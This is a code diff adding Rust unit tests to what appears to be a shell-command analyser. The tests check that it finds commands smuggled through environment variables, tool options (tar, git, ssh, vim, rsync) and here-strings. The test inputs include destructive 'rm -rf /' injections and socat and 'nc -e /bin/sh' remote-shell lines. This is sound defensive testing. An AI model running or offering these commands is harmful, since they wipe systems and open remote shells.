@@ -333,6 +333,105 @@ fn xargs_takes_its_words_from_what_it_reads() {
 }
 
 #[test]
+fn texts_of_variables_and_options_are_read() {
+    check(&[
+        (
+            "GIT_SSH_COMMAND='rm -rf /' git fetch",
+            &["git|fetch", "rm|-rf|/"],
+        ),
+        ("env PAGER='rm -rf /' git log", &["git|log", "rm|-rf|/"]),
+        (
+            "export PROMPT_COMMAND='rm -rf /'",
+            &["export|PROMPT_COMMAND=rm -rf /", "rm|-rf|/"],
+        ),
+        ("PS4='$(rm -rf /)' bash -xc ls", &["rm|-rf|/", ":|", "ls"]),
+        (
+            "BASH_ENV='$(rm -rf /)' bash -c ls",
+            &["rm|-rf|/", ":|", "ls"],
+        ),
+        ("FOO='rm -rf /' ls", &["ls"]),
+        ("EDITOR=$X git commit", &["git|commit"]),
+        (
+            "tar xf a --to-command='rm -rf /'",
+            &["tar|xf|a|--to-command=rm -rf /", "rm|-rf|/"],
+        ),
+        (
+            "tar cf a b --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
+            &[
+                "tar|cf|a|b|--checkpoint=1|--checkpoint-action=exec=rm -rf /",
+                "rm|-rf|/",
+            ],
+        ),
+        (
+            "git -c core.sshCommand='rm -rf /' fetch",
+            &["git|-c|core.sshCommand=rm -rf /|fetch", "rm|-rf|/"],
+        ),
+        (
+            "git -c alias.x='!rm -rf /' x",
+            &["git|-c|alias.x=!rm -rf /|x", "rm|-rf|/"],
+        ),
+        (
+            "ssh -o ProxyCommand='rm -rf /' h",
+            &["ssh|-o|ProxyCommand=rm -rf /|h", "rm|-rf|/"],
+        ),
+        (
+            "vim -c ':!rm -rf /' f",
+            &["vim|-c|:!rm -rf /|f", "rm|-rf|/"],
+        ),
+        (
+            "rsync -e 'rm -rf /' a b",
+            &["rsync|-e|rm -rf /|a|b", "rm|-rf|/"],
+        ),
+        (
+            "socat TCP:h:1 EXEC:'sh -i'",
+            &["socat|TCP:h:1|EXEC:sh -i", "sh|-i"],
+        ),
+        ("nc -e /bin/sh h 1", &["nc|-e|/bin/sh|h|1", "/bin/sh"]),
+    ]);
+    let changed = |text: &str| {
+        let reading = read_text(text);
+        reading
+            .commands
+            .last()
+            .is_some_and(|command| command.is_environment_changed)
+    };
+    assert!(changed("PATH=/tmp:$PATH; git status"));
+    assert!(changed("export LD_PRELOAD=/tmp/x; git status"));
+    assert!(!changed("FOO=1; export BAR=2; git status"));
+}
+
+#[test]
+fn a_group_reads_what_is_redirected_to_it() {
+    check(&[
+        ("{ bash; } <<< 'rm -rf /'", &["", "rm|-rf|/"]),
+        ("(bash) <<< 'rm -rf /'", &["", "rm|-rf|/"]),
+        (
+            "if true; then sh; fi <<< 'rm -rf /'",
+            &["", "true", "rm|-rf|/"],
+        ),
+        (
+            "while read l; do $l; done <<< 'rm -rf /'",
+            &["", "read|l", "rm|-rf|/"],
+        ),
+        (
+            "while read l; do $l; done <<'EOF'\nls\nrm -rf /\nEOF",
+            &["", "read|l", "rm|-rf|/", "ls"],
+        ),
+        ("while read l; do a $l; done < f", &["read|l", "a|$l", ""]),
+        ("for i in 1; do cat; done < f", &["cat", ""]),
+        ("{ { bash; }; } <<< 'rm -rf /'", &["", "rm|-rf|/"]),
+        (
+            "{ echo 'rm -rf /'; } | { bash; }",
+            &["echo|rm -rf /", "rm|-rf|/"],
+        ),
+        (
+            "{ python3; } <<< 'os.system(\"id\")'",
+            &["", "python3", "id"],
+        ),
+    ]);
+}
+
+#[test]
 fn what_is_set_anew_is_not_taken_for_what_it_was() {
     check(&[
         ("a=(ls rm); ${a[1]} -rf /", &["rm|-rf|/"]),
